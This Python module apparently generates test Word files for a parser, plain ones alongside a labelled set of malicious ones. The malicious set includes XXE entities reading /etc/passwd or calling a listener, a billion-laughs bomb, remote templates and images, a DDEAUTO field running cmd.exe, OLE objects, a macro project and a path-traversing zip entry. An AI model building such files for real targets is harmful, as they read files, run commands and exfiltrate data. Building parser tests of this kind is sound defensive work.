"""Word files made part by part: plain ones, and such as mean no good."""

import io
import zipfile
from collections.abc import Callable

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_SPACES = " ".join(
    f'xmlns:{short}="{space}"'
    for short, space in {
        "w": "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
        "r": _OFFICE,
        "wp": "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing",
        "a": "http://schemas.openxmlformats.org/drawingml/2006/main",
        "pic": "http://schemas.openxmlformats.org/drawingml/2006/picture",
        "c": "http://schemas.openxmlformats.org/drawingml/2006/chart",
        "v": "urn:schemas-microsoft-com:vml",
        "o": "urn:schemas-microsoft-com:office:office",
    }.items()
)
_CENTIMETRE = 360_000


def paragraph(text: str, about: str = "", letters: str = "") -> str:
    """A paragraph of one run with these properties."""
    return f'<w:p><w:pPr>{about}</w:pPr><w:r><w:rPr>{letters}</w:rPr><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def picture(tie: str, width: float = 8, height: float = 4) -> str:
    """A paragraph with the picture of this tie, so many centimetres wide and high."""
    size = f'cx="{width * _CENTIMETRE:.0f}" cy="{height * _CENTIMETRE:.0f}"'
    return (
        f"<w:p><w:r><w:drawing><wp:inline><wp:extent {size}/><a:graphic><a:graphicData><pic:pic><pic:blipFill>"
        f'<a:blip r:embed="{tie}"/></pic:blipFill><pic:spPr><a:xfrm><a:ext {size}/></a:xfrm></pic:spPr></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def part(name: str, content: str) -> bytes:
    """A part whose outermost element is `name`."""
    return f'<?xml version="1.0" encoding="UTF-8"?><w:{name} {_SPACES}>{content}</w:{name}>'.encode()


def ties(**named: tuple[str, str]) -> bytes:
    """A part of ties: kind and target by name; a target with a colon lies outside."""
    lines = "".join(
        f'<Relationship Id="{name}" Type="{_OFFICE}/{kind}" Target="{target}"'
        f"{' TargetMode=' + chr(34) + 'External' + chr(34) if ':' in target else ''}/>"
        for name, (kind, target) in named.items()
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}/relationships">{lines}</Relationships>'.encode()


def draw(
    body: str = paragraph("Một tờ giấy"), parts: dict[str, bytes] | None = None, *, doctype: str = "", kind: str = _MAIN
) -> bytes:
    """A Word file with this body and more parts."""
    kinds = (
        f'<?xml version="1.0"?><Types xmlns="{_PACKAGE}/content-types"><Default Extension="xml" '
        f'ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'
    )
    main = part("document", f"<w:body>{body}</w:body>").replace(b"<w:document", doctype.encode() + b"<w:document", 1)
    whole = {
        "[Content_Types].xml": kinds.encode(),
        "_rels/.rels": ties(main=("officeDocument", "word/document.xml")),
        "word/document.xml": main,
        **(parts or {}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in whole.items():
            packed.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _tied(body: str, kind: str, target: str, **more: bytes) -> bytes:
    parts = {"word/_rels/document.xml.rels": ties(rId1=(kind, target))}
    return draw(body, parts | {name.replace("__", "/").replace("_", "."): data for name, data in more.items()})


def _field(asked: str) -> str:
    kinds = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")]
    return f"<w:p>{kinds[0]}<w:r><w:instrText>{asked}</w:instrText></w:r>{kinds[1]}{kinds[2]}</w:p>"


def hostile(listener: str, trace: str) -> dict[str, tuple[str, Callable[[], bytes]]]:
    """What becomes of each of them (ok, either, refused), and how it is made."""
    entity = '<!DOCTYPE d [<!ENTITY x SYSTEM "%s">]>'
    laughs = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    chart = '<w:p><w:r><w:drawing><wp:inline><c:chart r:id="rId1"/></wp:inline></w:drawing></w:r></w:p>'
    table = "<w:tbl><w:tr><w:tc>"
    return {
        "ok.docx": ("ok", draw),
        "entity of a file.docx": ("refused", lambda: draw(paragraph("&x;"), doctype=entity % "file:///etc/passwd")),
        "entity of an address.docx": ("refused", lambda: draw(paragraph("&x;"), doctype=entity % listener)),
        "billion laughs.docx": (
            "refused",
            lambda: draw(paragraph("&e9;"), doctype=f'<!DOCTYPE d [<!ENTITY e0 "ha">{laughs}]>'),
        ),
        "template from outside.docx": (
            "ok",
            lambda: draw(
                parts={
                    "word/settings.xml": part("settings", '<w:attachedTemplate r:id="rId1"/>'),
                    "word/_rels/settings.xml.rels": ties(rId1=("attachedTemplate", listener)),
                }
            ),
        ),
        "picture from outside.docx": ("ok", lambda: _tied(picture("rId1"), "image", listener)),
        "another file in the text.docx": (
            "refused",
            lambda: _tied('<w:altChunk r:id="rId1"/>', "aFChunk", "chunk.html", word__chunk_html=b"<script/>"),
        ),
        "another file by address.docx": ("refused", lambda: _tied('<w:altChunk r:id="rId1"/>', "aFChunk", listener)),
        "field that calls.docx": (
            "ok",
            lambda: draw(
                _field(f'DDEAUTO c:\\\\windows\\\\cmd.exe "/c {trace}"') + _field(f'INCLUDETEXT "{listener}"')
            ),
        ),
        "object.docx": (
            "refused",
            lambda: _tied(
                '<w:p><w:r><w:object><o:OLEObject r:id="rId1"/></w:object></w:r></w:p>',
                "oleObject",
                "embeddings/a.bin",
                word__embeddings__a_bin=b"\xd0\xcf\x11\xe0" + bytes(508),
            ),
        ),
        "object by address.docx": (
            "refused",
            lambda: _tied(
                '<w:p><w:r><w:object><o:OLEObject Type="Link" r:id="rId1"/></w:object></w:r></w:p>',
                "oleObject",
                listener,
            ),
        ),
        "chart.docx": ("refused", lambda: _tied(chart, "chart", "charts/a.xml", word__charts__a_xml=part("c", ""))),
        "program.docx": ("refused", lambda: draw(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        "program by its kind.docx": (
            "refused",
            lambda: draw(kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
        ),
        "no list of kinds.docx": ("refused", lambda: draw(kind="text/plain")),
        "part that climbs.docx": ("refused", lambda: draw(parts={f"../../..{trace}.xml": b"x"})),
        "tables in tables.docx": ("refused", lambda: draw(table * 90 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 90)),
        "many parts.docx": ("refused", lambda: draw(parts={f"word/{n}.xml": b"" for n in range(2_001)})),
        "old.doc": ("either", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_000)),
    }
